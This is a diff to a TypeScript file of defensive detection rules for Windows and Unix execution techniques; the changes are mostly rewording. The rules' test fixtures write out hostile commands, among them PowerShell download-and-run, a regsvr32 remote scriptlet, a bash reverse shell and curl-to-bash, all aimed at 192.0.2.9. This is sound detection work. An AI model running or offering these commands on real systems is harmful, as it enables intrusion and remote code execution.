@@ -1,6 +1,6 @@
-import type { Template } from './template.ts';
+import type { QueryTemplate } from './template.ts';
 
-export const execution: readonly Template[] = [
+export const execution: readonly QueryTemplate[] = [
   {
     id: 'powershell-encoded',
     techniques: ['T1059.001', 'T1059', 'T1027.010', 'T1027'],
@@ -11,20 +11,20 @@ export const execution: readonly Template[] = [
       command: String.raw`(powershell|pwsh)(\.exe)?"?\s.*-e(nc|nco|ncod|ncode|ncoded|ncodedc\w*|c)?\s+[a-z0-9+/=]{20,}`,
     },
     benign:
-      'management agents that pass their own scripts encoded; they run under their own service and repeat word for word',
+      'management agents that encode their own scripts; they run under their own service account and are always identical',
     match: ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
     noMatch: ['powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1'],
   },
   {
     id: 'powershell-download',
     techniques: ['T1059.001', 'T1105'],
-    name: 'PowerShell that loads and runs code from the network',
+    name: 'PowerShell downloads and runs code',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`(powershell|pwsh).*(downloadstring|downloadfile|invoke-webrequest|\biwr\b|net\.webclient|start-bitstransfer).*(iex|invoke-expression|start-process|\|)|(iex|invoke-expression).*(downloadstring|invoke-webrequest|\biwr\b)`,
     },
-    benign: 'installers of known software that are started this way by an administrator',
+    benign: 'an administrator starting a known installer this way',
     match: ['powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.9/a.ps1\')"'],
     noMatch: ['powershell -c "Get-Service | Sort-Object Status"'],
   },
@@ -39,7 +39,7 @@ export const execution: readonly Template[] = [
       parent: String.raw`(winword|excel|powerpnt|outlook|onenote|msaccess|mspub|visio|acrord32|acrobat)(\.exe)?$`,
       command: String.raw`\b(cmd|powershell|pwsh|wscript|cscript|mshta|rundll32|regsvr32|certutil|bitsadmin|msiexec)(\.exe)?\b`,
     },
-    benign: 'add-ins that call a script of the company; they repeat word for word on many hosts',
+    benign: 'add-ins that call a company script; they are identical on many hosts',
     match: [{ parent: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE', command: 'cmd.exe /c start notes.hta' }],
     noMatch: [
       { parent: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE', command: 'splwow64.exe 8192' },
@@ -55,20 +55,20 @@ export const execution: readonly Template[] = [
     where: {
       command: String.raw`\b(wscript|cscript|mshta)(\.exe)?"?\s.*(\\downloads\\|\\temp\\|\\appdata\\|https?://|javascript:|vbscript:)`,
     },
-    benign: 'log-on scripts of the company; they lie on a server share, not in a user folder',
+    benign: 'company logon scripts, which are on a server share and not in a user folder',
     match: ['wscript.exe "C:\\Users\\ada\\Downloads\\invoice.js"', 'mshta.exe https://files.example/a.hta'],
     noMatch: ['cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli'],
   },
   {
     id: 'signed-binary-proxy',
     techniques: ['T1218.010', 'T1218.011', 'T1218.007', 'T1218.004', 'T1218.003', 'T1218', 'T1127.001', 'T1127'],
-    name: 'System program made to run code from elsewhere',
+    name: 'Signed system program runs external code',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`regsvr32.*(scrobj|/i:https?:)|rundll32.*(javascript:|https?://|\\(temp|appdata|public|programdata)\\)|msiexec.*\s[/-](i|y|package)\s*"?https?://|installutil.*\\(temp|appdata|public)\\|cmstp.*\s/s\s.*\.inf|msbuild.*\\(temp|appdata|public)\\`,
     },
-    benign: 'installers that unpack into the temporary folder and call rundll32 once; look at who signed the file',
+    benign: 'installers that unpack to the temporary folder and call rundll32 once; check who signed the file',
     match: [
       'regsvr32 /s /n /u /i:http://192.0.2.9/x.sct scrobj.dll',
       'rundll32.exe C:\\Users\\Public\\upd.dll,Start',
@@ -85,7 +85,7 @@ export const execution: readonly Template[] = [
     where: {
       command: String.raw`wmic(\.exe)?"?\s.*process\s+call\s+create|invoke-wmimethod.*win32_process|invoke-cimmethod.*win32_process`,
     },
-    benign: 'software deployment and monitoring; it comes from one known server',
+    benign: 'software deployment and monitoring from one known server',
     match: ['wmic /node:FS-01 process call create "cmd.exe /c whoami"'],
     noMatch: ['wmic os get version'],
   },
@@ -98,7 +98,7 @@ export const execution: readonly Template[] = [
     where: {
       command: String.raw`(schtasks(\.exe)?"?\s.*/create\b|register-scheduledtask).*(\\temp\\|\\appdata\\|\\public\\|\\programdata\\|powershell|wscript|mshta|rundll32|cmd(\.exe)?\s+/c)`,
     },
-    benign: 'installers that make an update task for the program they install',
+    benign: 'installers that create an update task for the installed program',
     match: ['schtasks /create /sc minute /mo 5 /tn upd /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1"'],
     noMatch: [
       'schtasks /query /fo list',
@@ -108,33 +108,33 @@ export const execution: readonly Template[] = [
   {
     id: 'service-execution',
     techniques: ['T1569.002', 'T1569', 'T1543.003', 'T1543', 'T1021.002'],
-    name: 'Service made or started to run a command',
+    name: 'Service created or started to run a command',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`\bsc(\.exe)?"?\s+(\\\\\S+\s+)?(create|config)\s.*binpath=.*(cmd|powershell|\\temp\\|\\public\\|\\programdata\\|admin\$)|psexe(c|svc)|paexec|new-service\s.*-binarypathname`,
     },
-    benign: 'administrators who use PsExec from their own workstation; ask whether they did',
+    benign: 'administrators using PsExec from their own workstation; ask them',
     match: ['sc.exe \\\\FS-01 create upd binPath= "cmd /c C:\\Windows\\Temp\\a.exe"', 'psexec64 \\\\FS-02 -s cmd'],
     noMatch: ['sc.exe query lanmanserver', 'sc.exe config wuauserv start= auto'],
   },
   {
     id: 'unix-shell-download',
     techniques: ['T1059.004', 'T1059', 'T1105', 'T1059.006'],
-    name: 'Shell runs what it has just loaded from the network',
+    name: 'Shell runs a script directly after downloading it',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`(curl|wget)\s[^|;&]*(\||;|&&)\s*(sudo\s+)?(ba|z|da)?sh\b|(curl|wget)\s[^|;]*\|\s*(base64\s+-d|python[0-9.]*|perl)|/dev/tcp/\d|python[0-9.]*\s+-c\s.*(socket|urllib|requests).*exec`,
     },
-    benign: 'installation instructions of known projects, by a developer on their own machine',
+    benign: 'a developer following the installation instructions of a known project on their own machine',
     match: ['sh -c "curl -fsSL http://192.0.2.9/x.sh | bash"', 'bash -c "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"'],
     noMatch: ['curl -fsSL -o /tmp/chart.tgz https://charts.example/chart.tgz', 'bash /opt/app/start.sh'],
   },
   {
     id: 'package-install-shell',
     techniques: ['T1195.002', 'T1195', 'T1195.001', 'T1059.004'],
-    name: 'Package installation starts a shell that goes to the network',
+    name: 'Package installation starts a shell that accesses the network',
     kind: 'process',
     needs: ['parent'],
     severity: 'high',
@@ -142,7 +142,7 @@ export const execution: readonly Template[] = [
       parent: String.raw`(node|npm|yarn|pnpm|pip[0-9.]*|gem|bun)(\.exe)?$`,
       command: String.raw`\b(curl|wget|powershell|certutil|bitsadmin|nc|ncat)\b|base64\s+-d|/dev/tcp/`,
     },
-    benign: 'packages that fetch a ready-made binary from the host of their own project',
+    benign: 'packages that download a prebuilt binary from their own project',
     match: [{ parent: '/usr/bin/node', command: 'sh -c curl -s http://192.0.2.9/p | sh' }],
     noMatch: [{ parent: '/usr/bin/node', command: 'sh -c node-gyp rebuild' }],
   },
